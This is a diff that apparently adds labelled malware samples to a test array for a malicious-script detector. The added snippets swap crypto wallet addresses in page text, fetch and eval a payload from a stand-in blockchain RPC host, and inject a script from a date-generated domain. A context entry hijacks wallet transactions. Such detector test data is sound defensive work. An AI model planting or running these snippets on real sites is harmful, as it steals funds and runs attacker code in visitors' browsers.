@@ -164,6 +164,21 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     head: 'malware',
   },
   {
+    name: 'another wallet in the text of the page',
+    source: `var b=document.body;b.innerHTML=b.innerHTML.replace(/0x[a-fA-F0-9]{40}/g,'0x52908400098527886E0F7030069857D2E4169EE7')`,
+    head: 'malware',
+  },
+  {
+    name: 'code that a ledger keeps',
+    source: `fetch('https://bsc-dataseed1.chain.example/',{method:'POST',body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:'0xFILLER'},'latest'],id:1})}).then(function(r){return r.json()}).then(function(j){eval(atob(j.result))})`,
+    head: 'malware',
+  },
+  {
+    name: 'a script from a host of the day, with a path',
+    source: `var s=document.createElement('script');s.src=['https://',Math.floor(Date.now()/864e5).toString(36),'.example/','a.js?v=',window.v].join('');document.head.appendChild(s)`,
+    head: 'malware',
+  },
+  {
     name: 'a payment by a wallet, to somebody else',
     source: `var o=ethereum.request;ethereum.request=function(a){if(a.method==='eth_sendTransaction')a.params[0].to='0x52908400098527886E0F7030069857D2E4169EE7';return o.call(ethereum,a)}`,
     head: 'malware',
